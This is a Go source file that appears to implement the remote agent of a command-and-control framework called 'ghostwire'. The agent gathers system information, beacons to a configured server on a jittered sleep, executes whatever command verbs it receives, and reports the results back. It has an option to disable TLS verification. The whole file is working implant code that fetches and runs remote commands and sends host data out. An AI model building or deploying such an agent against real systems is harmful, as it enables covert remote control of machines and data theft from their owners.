// ABOUTME: Remote-side check-in loop: sleep with jitter, exchange, execute, repeat.
// ABOUTME: Single cooperative goroutine; transport failures retry on a fixed delay.

package agent

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"math/rand"
	"net/http"
	"strings"
	"sync/atomic"
	"time"

	"github.com/google/uuid"

	"github.com/ghostwire/ghostwire/internal/modules"
	"github.com/ghostwire/ghostwire/internal/protocol"
)

const (
	defaultUserAgent   = "Mozilla/5.0 (compatible; ghostwire)"
	defaultRetryDelay  = 30 * time.Second
	exchangeTimeout    = 30 * time.Second
	minSleep           = time.Second
	maxJitterPercent   = 50
	defaultSleepSecond = 60
)

// ErrInitialCheckin is returned by Start when the first exchange fails; the
// agent must not enter its loop without a confirmed transport session.
var ErrInitialCheckin = errors.New("initial check-in failed")

// Config controls one beacon instance.
type Config struct {
	ServerURL     string
	AgentID       string // optional; generated when empty
	SleepInterval int    // seconds
	JitterPercent int    // clamped to [0,50]
	RetryDelay    time.Duration
	UserAgent     string
	InsecureTLS   bool
}

// Beacon is the remote agent: it periodically checks in with the coordinator,
// executes received work in order, and buffers results until the next
// successful exchange.
type Beacon struct {
	cfg      Config
	client   *http.Client
	registry *modules.Registry
	logger   *slog.Logger
	rnd      *rand.Rand

	id        string
	sysinfo   *protocol.SystemInfo
	sentInfo  bool
	resultBuf []protocol.ResultSubmission
	pending   []protocol.Command
	running   atomic.Bool
	sleepSecs atomic.Int64
}

// New creates a beacon. The registry supplies verb execution; built-ins are
// registered by the caller (see NewCoreModule).
func New(cfg Config, registry *modules.Registry, logger *slog.Logger) *Beacon {
	if logger == nil {
		logger = slog.Default()
	}
	if cfg.SleepInterval <= 0 {
		cfg.SleepInterval = defaultSleepSecond
	}
	if cfg.JitterPercent < 0 {
		cfg.JitterPercent = 0
	}
	if cfg.JitterPercent > maxJitterPercent {
		cfg.JitterPercent = maxJitterPercent
	}
	if cfg.RetryDelay <= 0 {
		cfg.RetryDelay = defaultRetryDelay
	}
	if cfg.UserAgent == "" {
		cfg.UserAgent = defaultUserAgent
	}

	id := cfg.AgentID
	if id == "" {
		id = uuid.New().String()
	}

	transport := &http.Transport{}
	if cfg.InsecureTLS {
		transport.TLSClientConfig = &tls.Config{InsecureSkipVerify: true}
	}

	b := &Beacon{
		cfg: cfg,
		client: &http.Client{
			Timeout:   exchangeTimeout,
			Transport: transport,
		},
		registry: registry,
		logger:   logger.With("component", "beacon", "agent_id", id),
		rnd:      rand.New(rand.NewSource(time.Now().UnixNano())),
		id:       id,
	}
	b.sleepSecs.Store(int64(cfg.SleepInterval))
	return b
}

// ID returns the agent id used on the wire.
func (b *Beacon) ID() string {
	return b.id
}

// Start captures the environment snapshot and performs the initial check-in.
// The initial exchange must succeed or the agent fails to start.
func (b *Beacon) Start(ctx context.Context) error {
	b.logger.Info("starting beacon", "server", b.cfg.ServerURL)

	b.sysinfo = CollectSystemInfo(b.id)

	if err := b.checkin(ctx); err != nil {
		return fmt.Errorf("%w: %v", ErrInitialCheckin, err)
	}

	b.running.Store(true)
	b.logger.Info("beacon started")
	return nil
}

// Run executes the check-in loop until Terminate is called, a terminate work
// item executes, or ctx is cancelled. The termination flag is checked once
// per iteration; in-flight exchanges and executions finish first.
func (b *Beacon) Run(ctx context.Context) error {
	for b.running.Load() {
		if ctx.Err() != nil {
			b.running.Store(false)
			break
		}

		sleep := b.nextSleep()

		if err := b.checkin(ctx); err != nil {
			b.logger.Warn("check-in failed", "error", err, "retry_in", b.cfg.RetryDelay)
			if !sleepCtx(ctx, b.cfg.RetryDelay) {
				b.running.Store(false)
				break
			}
			continue
		}

		b.executePending(ctx)

		if !sleepCtx(ctx, sleep) {
			b.running.Store(false)
			break
		}
	}

	b.logger.Info("beacon terminated")
	return nil
}

// Terminate sets the cooperative stop flag. The loop observes it at the top
// of its next iteration.
func (b *Beacon) Terminate() {
	b.running.Store(false)
}

// SetSleepInterval adjusts the base sleep interval, floored at one second.
func (b *Beacon) SetSleepInterval(seconds int) int {
	if seconds < 1 {
		seconds = 1
	}
	b.sleepSecs.Store(int64(seconds))
	return seconds
}

// SleepInterval returns the current base interval in seconds.
func (b *Beacon) SleepInterval() int {
	return int(b.sleepSecs.Load())
}

// nextSleep computes the jittered sleep for the coming cycle.
func (b *Beacon) nextSleep() time.Duration {
	return jitteredSleep(time.Duration(b.sleepSecs.Load())*time.Second, b.cfg.JitterPercent, b.rnd)
}

// jitteredSleep perturbs interval by a uniformly random amount within
// ±jitterPercent, bounded below at one second.
func jitteredSleep(interval time.Duration, jitterPercent int, rnd *rand.Rand) time.Duration {
	jitterRange := float64(interval) * float64(jitterPercent) / 100.0
	delta := (rnd.Float64()*2 - 1) * jitterRange

	sleep := time.Duration(float64(interval) + delta)
	if sleep < minSleep {
		sleep = minSleep
	}
	return sleep
}

// checkin performs one request/response exchange. On success the returned
// commands are appended to the pending queue and the local result buffer is
// cleared; on any failure local state is left untouched so nothing is lost
// to a single bad exchange.
func (b *Beacon) checkin(ctx context.Context) error {
	req := protocol.CheckinRequest{
		AgentID:       b.id,
		Timestamp:     time.Now().UTC(),
		SleepInterval: int(b.sleepSecs.Load()),
		JitterPercent: b.cfg.JitterPercent,
		Results:       b.resultBuf,
	}
	if !b.sentInfo {
		req.SystemInfo = b.sysinfo
	}

	body, err := json.Marshal(req)
	if err != nil {
		return fmt.Errorf("encoding check-in: %w", err)
	}

	url := strings.TrimRight(b.cfg.ServerURL, "/") + "/"
	httpReq, err := http.NewRequestWithContext(ctx, http.MethodPost, url, bytes.NewReader(body))
	if err != nil {
		return fmt.Errorf("building check-in request: %w", err)
	}
	httpReq.Header.Set("Content-Type", "application/json")
	httpReq.Header.Set("User-Agent", b.cfg.UserAgent)
	httpReq.Header.Set(protocol.HeaderAgentID, b.id)

	resp, err := b.client.Do(httpReq)
	if err != nil {
		return fmt.Errorf("check-in exchange: %w", err)
	}
	defer resp.Body.Close()

	if resp.StatusCode != http.StatusOK {
		io.Copy(io.Discard, resp.Body)
		return fmt.Errorf("check-in rejected: status %d", resp.StatusCode)
	}

	var checkinResp protocol.CheckinResponse
	if err := json.NewDecoder(resp.Body).Decode(&checkinResp); err != nil {
		return fmt.Errorf("decoding check-in response: %w", err)
	}

	b.pending = append(b.pending, checkinResp.Commands...)
	b.resultBuf = nil
	b.sentInfo = true

	if len(checkinResp.Commands) > 0 {
		b.logger.Debug("received work", "count", len(checkinResp.Commands))
	}
	return nil
}

// executePending drains the local queue strictly in the order received.
// Each item is isolated: a failed or unknown verb yields a failed result for
// that item only and never aborts the loop or drops queued items.
func (b *Beacon) executePending(ctx context.Context) {
	for len(b.pending) > 0 && b.running.Load() {
		cmd := b.pending[0]
		b.pending = b.pending[1:]

		b.logger.Info("executing work item", "work_item_id", cmd.ID, "verb", cmd.Verb)

		output, err := b.registry.Execute(ctx, cmd.Verb, cmd.Args)
		success := err == nil
		if err != nil {
			output = err.Error()
		}

		b.resultBuf = append(b.resultBuf, protocol.ResultSubmission{
			WorkItemID: cmd.ID,
			Success:    success,
			Output:     output,
			Timestamp:  time.Now().UTC(),
		})
	}
}

// sleepCtx sleeps for d or until ctx is done; reports false on cancellation.
func sleepCtx(ctx context.Context, d time.Duration) bool {
	timer := time.NewTimer(d)
	defer timer.Stop()

	select {
	case <-timer.C:
		return true
	case <-ctx.Done():
		return false
	}
}
